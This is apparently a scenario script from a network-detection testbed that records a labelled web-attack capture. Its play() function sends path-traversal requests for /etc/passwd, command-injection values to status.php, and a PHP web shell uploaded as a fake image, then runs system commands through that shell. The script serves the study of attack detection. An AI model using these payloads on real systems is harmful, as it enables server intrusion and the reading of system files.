# 198.51.100.66 reads files by traversal, runs commands through status.php, uploads a web shell and uses
# it by hand, partly over TLS.
topology=web
file=web-shell.pcap.gz
class=web_attack
family=web-shell
rule="SRC:198.51.100.66:web_attack;CONN:10.30.0.21:8081:web_attack;CONN:10.30.0.22:8081:web_attack"

attack() { # ARGUMENT...: a request of the attacker's browser
  inside attacker curl -sS --max-time 20 --cacert "$work/tls/ca.pem" -A "${visitor_agents[1]}" "$@" >>"$work/attack.log" || true
  sleep "$((2 + RANDOM % 4))"
}

play() {
  local command
  visitors 150
  sleep 20
  attack "http://$shop/view.php?page=about.txt"
  attack "http://$shop/view.php?page=../../../../etc/passwd"
  attack "http://$shop/view.php?page=..%2f..%2f..%2f..%2fetc%2fhostname"
  attack "https://$shop/view.php?page=shop.php"
  attack "http://$shop/status.php?host=localhost"
  attack -G "http://$shop/status.php" --data-urlencode 'host=localhost; id'
  attack -G "https://$shop/status.php" --data-urlencode 'host=x || uname -a && cat /etc/issue'
  # shellcheck disable=SC2016  # PHP's variable
  echo '<?php system($_REQUEST["c"]);' >"$work/photo.php"
  attack -F "picture=@$work/photo.php;type=image/png;filename=photo.php" "http://$shop/upload.php"
  for command in id 'uname -a' 'ls -la ..' 'cat ../shop.php' 'ip addr' 'ps ax | head -30' 'cat /etc/passwd'; do
    attack "http://$shop/uploads/photo.php" --data-urlencode "c=$command"
  done
  grep -q 'uid=0' "$work/attack.log" || echo "testbed: the web shell did not answer" >&2
  sleep 20
}
